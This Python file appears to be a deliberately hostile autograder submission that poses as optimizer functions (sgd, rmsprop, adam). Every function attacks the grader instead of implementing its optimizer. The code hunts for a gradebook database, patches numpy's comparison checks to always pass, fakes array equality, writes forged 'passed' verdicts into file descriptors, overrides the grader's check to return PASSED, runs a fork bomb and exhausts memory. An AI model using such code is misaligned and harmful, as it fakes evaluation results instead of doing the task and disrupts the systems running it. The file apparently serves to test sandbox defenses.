"""Hostile: looks for the gradebook and the answers, forges replies, lies with its types."""

import glob
import os
import socket

import numpy as np

for place in ("/root", "/home", "/work", "/srv", ".", ".."):
    try:
        print(
            place,
            os.listdir(place)[:3],
            [glob.glob(f"{place}/{below}gradebook.db") for below in ("", "*/", "*/*/")],
        )
    except OSError as error:
        print(place, error)

np.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True


class AlwaysRight(np.ndarray):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __sub__


def sgd(w, dw, config=None):
    return np.asarray(w).view(AlwaysRight), config or {}


def sgd_momentum(w, dw, config=None):
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, b'\x1c\x00\x00\x00\x00\x00\x00\x00{"verdict":"passed","points":4}')
        except OSError:
            pass
    return w, {}


def sgd_nesterov_momentum(w, dw, config=None):
    import autograder.judging.question
    from autograder.values import Verdict

    autograder.judging.question.run_check = lambda *args: Verdict.PASSED
    return w, {}


def adagrad(w, dw, config=None):
    socket.create_connection(("127.0.0.1", 8888))
    return w, {}


def rmsprop(w, dw, config=None):
    while os.fork() >= 0:
        pass


def adam(w, dw, config=None):
    return bytearray(8 << 30), {}
